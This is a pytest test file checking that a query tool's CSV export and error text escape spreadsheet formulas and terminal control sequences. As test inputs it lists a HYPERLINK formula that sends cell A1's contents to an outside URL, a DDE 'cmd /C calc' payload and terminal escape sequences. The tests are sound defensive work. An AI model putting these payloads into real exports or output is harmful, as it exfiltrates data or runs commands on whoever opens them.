"""Attack: a group's name that is a formula, or an escape sequence, acts on whoever opens or prints an answer.

`discreet ask --csv` wrote group names as they stand in rows: `=HYPERLINK(…)` is computed by a spreadsheet, and
`ESC ] 0 ; … BEL` retitles a terminal. Numbers must stay numbers.
"""

import csv
import io

import pytest

import discreet
from command_line import runner
from discreet import Budget
from discreet.cli.dataset.facts import csv_rows
from discreet.cli.output import csv_text, error_text, escape_controls
from discreet.core import InvalidInput

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "--1",
]
ESCAPES = ["\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "\x00", "a\rb", "a\nb", "\u202eevil", "\u2028", "\x7f", "\ud800"]
HARMLESS = ["A", "ward C", "a=b", "5", "-5", "+5", "-1.5e-3", "Ünï", "a\u00a0b", "東京", "👩\u200d⚕️"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text):
    cell = csv_text(text)
    assert cell[0] == "'"
    assert not any(sign in cell for sign in "\t\r\n")


@pytest.mark.parametrize("text", ESCAPES)
def test_no_cell_commands_a_terminal(text):
    cell = csv_text(text)
    assert all(sign >= " " and sign not in "\x7f\x9b\u202e\u2028\ud800" for sign in cell)
    assert cell.encode("utf-8")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert csv_text(text) == text
    assert escape_controls(text) == text


def test_different_names_stay_different():
    names = [*FORMULAS, *ESCAPES, *HARMLESS]
    assert len({csv_text(name) for name in names}) == len(names)


def test_numbers_and_days_are_not_spoiled():
    rows = [{"=a": -5, "b": -0.25, "c": None, "d": True}]
    head, line = csv_rows(rows)
    assert next(csv.reader([head])) == ["'=a", "b", "c", "d"]
    assert next(csv.reader([line])) == ["-5", "-0.25", "", "true"]


def test_an_answer_on_the_command_line(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    wards = ['=HYPERLINK("http://example.org")', "\x1b]0;owned\x07ward"]
    with (tmp_path / "visits.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["pid", "ward"])
        writer.writerows([number, wards[number % 2]] for number in range(4000))
    with discreet.open("visits.csv", person="pid", budget=Budget(epsilon=100, delta=1e-6), ledger="v.ledger", limit=1):
        pass
    (tmp_path / "discreet.toml").write_text(
        'source = "visits.csv"\nperson = "pid"\nledger = "v.ledger"\n[budget]\nepsilon = 100\ndelta = 1e-6\n'
    )
    run = runner(capsys)
    ask = ("ask", "SELECT ward, COUNT(*) AS n FROM visits GROUP BY ward", "--epsilon", "10")
    status, out, err = run(*ask, "--csv")
    assert status == 0, err
    found = [row[0] for row in csv.reader(io.StringIO(out))]
    assert sorted(found) == sorted(["ward", *map(csv_text, wards)])
    for form in ((), ("--csv",), ("--json",)):
        assert "\x1b]" not in run(*ask, *form)[1]


def test_an_error_does_not_command_a_terminal():
    said = error_text(InvalidInput("There is no column \x1b[2J.", fix="name\x07 another\n  or none"))
    assert "\x1b" not in said
    assert "\x07" not in said
    assert said.count("\n") == 2
